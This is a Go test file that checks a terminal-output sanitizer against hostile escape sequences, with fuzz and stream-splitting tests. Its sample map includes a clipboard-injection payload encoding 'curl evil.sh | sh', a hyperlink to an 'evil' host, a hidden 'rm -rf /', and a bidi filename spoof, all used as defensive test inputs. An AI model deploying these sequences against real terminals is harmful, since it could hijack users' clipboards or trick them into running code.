package iostreams

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"
)

// hostile are terminal attacks as they arrive in names, URLs and pages.
var hostile = map[string]string{
	"osc0 title":        "\x1b]0;pwned\x07name",
	"osc52 clipboard":   "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"osc8 link":         "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
	"csi clear":         "\x1b[2J\x1b[H",
	"csi hide":          "\x1b[8mhidden\x1b[0m",
	"csi cursor up":     "ok\x1b[1A\x1b[2Kforged",
	"dcs":               "\x1bP+q544e\x1b\\",
	"bel":               "ding\x07",
	"backspace":         "safe\x08\x08\x08\x08evil",
	"cr overwrite":      "rm -rf /\rls -la   ",
	"nul":               "a\x00b",
	"del":               "a\x7fb",
	"c1 csi":            "\u009b2J",
	"c1 osc":            "\u009d0;title\u009c",
	"c1 nel":            "a\u0085b",
	"raw 8-bit csi":     "\x9b2J",
	"invalid utf8":      "\xff\xfe",
	"bidi override":     "file\u202etxt.exe",
	"bidi isolate":      "\u2066abc\u2069",
	"line separator":    "a\u2028b",
	"vertical tab/ff":   "a\x0bb\x0cc",
	"escape only":       "\x1b",
	"colour lookalike":  "\x1b[31;1m",
	"colour then title": "\x1b[31m\x1b]0;x\x07",
}

func checkSafe(t *testing.T, in, out string, line bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("%q -> %q: not UTF-8", in, out)
	}
	for i, r := range out {
		switch {
		case r == '\n' || r == '\t':
			if line {
				t.Fatalf("%q -> %q: raw %q at %d in a line field", in, out, r, i)
			}
		case r == '\r':
			if line || i+1 >= len(out) || out[i+1] != '\n' {
				t.Fatalf("%q -> %q: a CR not ending a line at %d", in, out, i)
			}
		case r < 0x20 || r == 0x7f || dangerousRune(r):
			t.Fatalf("%q -> %q: raw %U at %d", in, out, r, i)
		}
	}
}

func TestEscapeHostile(t *testing.T) {
	for name, in := range hostile {
		t.Run(name, func(t *testing.T) {
			checkSafe(t, in, Escape(in), false)
			checkSafe(t, in, EscapeLine(in), true)
			var b bytes.Buffer
			w := NewTerminalWriter(&b)
			w.Write([]byte(in))
			w.(*safeWriter).Flush()
			// the writer lets relay's own colours through, nothing else
			stripped := b.String()
			for _, c := range ownColours {
				stripped = strings.ReplaceAll(stripped, string(c), "")
			}
			checkSafe(t, in, stripped, false)
		})
	}
}

func TestEscapeExact(t *testing.T) {
	for in, want := range map[string]string{
		"plain text\n\twith tab": "plain text\n\twith tab",
		"héllo wörld ✓ 日本":       "héllo wörld ✓ 日本",
		"\x1b]0;x\x07":           `\x1b]0;x\x07`,
		"a\r\nb":                 "a\r\nb",
		"a\rb":                   `a\rb`,
		"\u009b":                 `\u009b`,
		"\xff":                   `\xff`,
		"\u202e":                 `\u202e`,
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
	if got := EscapeLine("a\nb\tc\r\n"); got != `a\nb\tc\r\n` {
		t.Errorf("EscapeLine = %q", got)
	}
}

func TestTerminalWriterKeepsOwnColours(t *testing.T) {
	var b bytes.Buffer
	w := NewTerminalWriter(&b)
	w.Write([]byte("\x1b[32m✓\x1b[0m ok \x1b[31m✗\x1b[0m \x1b[1m"))
	if got, want := b.String(), "\x1b[32m✓\x1b[0m ok \x1b[31m✗\x1b[0m \\x1b[1m"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

// writeSplit writes s through a terminal writer in pieces cut at cuts.
func writeSplit(s string, cuts []int) string {
	var b bytes.Buffer
	w := NewTerminalWriter(&b)
	prev := 0
	for _, c := range cuts {
		if c <= prev || c >= len(s) {
			continue
		}
		w.Write([]byte(s[prev:c]))
		prev = c
	}
	w.Write([]byte(s[prev:]))
	w.(*safeWriter).Flush()
	return b.String()
}

func TestTerminalWriterSplitAnywhere(t *testing.T) {
	s := "ok ✓\r\n\x1b[32mgreen\x1b[0m 日本 \u009b \x1b]0;t\x07 \xe2\x9c"
	whole := writeSplit(s, nil)
	for i := 1; i < len(s); i++ {
		for j := i + 1; j < len(s); j++ {
			if got := writeSplit(s, []int{i, j}); got != whole {
				t.Fatalf("cut at %d,%d: %q, whole %q", i, j, got, whole)
			}
		}
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range hostile {
		f.Add(s, 3)
	}
	f.Add("plain ✓ text\n", 1)
	f.Add("a\r\nb\x1b[0m", 2)
	f.Fuzz(func(t *testing.T, s string, cut int) {
		out := Escape(s)
		checkSafe(t, s, out, false)
		checkSafe(t, s, EscapeLine(s), true)
		if safeString(s) || utf8.ValidString(s) && !strings.ContainsFunc(s, func(r rune) bool {
			return r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || dangerousRune(r)
		}) {
			if out != s {
				t.Fatalf("safe text changed: %q -> %q", s, out)
			}
		}
		// a stream cut anywhere escapes like the whole text
		if cut < 0 {
			cut = -cut
		}
		whole := writeSplit(s, nil)
		if len(s) > 0 {
			if got := writeSplit(s, []int{cut % len(s)}); got != whole {
				t.Fatalf("cut at %d: %q, whole %q", cut%len(s), got, whole)
			}
		}
	})
}

// A copy of the streams that points stdout elsewhere keeps that choice when
// its terminal flags change (relay mcp sends relay up's output to stderr).
func TestSetTTYKeepsReassignedStreams(t *testing.T) {
	ios, _, out, errOut := Test()
	ios.SetTTY(false, true, true)
	cp := *ios
	cp.Out = cp.ErrOut
	cp.SetTTY(false, false, false)
	fmt.Fprint(cp.Out, "to stderr\x1b")
	if out.Len() != 0 || errOut.String() != "to stderr\x1b" {
		t.Fatalf("stdout %q, stderr %q", out, errOut)
	}
	cp.SetTTY(false, true, true)
	fmt.Fprint(cp.Out, "\x1b")
	cp.Flush()
	if out.Len() != 0 || errOut.String() != "to stderr\x1b\\x1b" {
		t.Fatalf("stdout %q, stderr %q", out, errOut)
	}
}
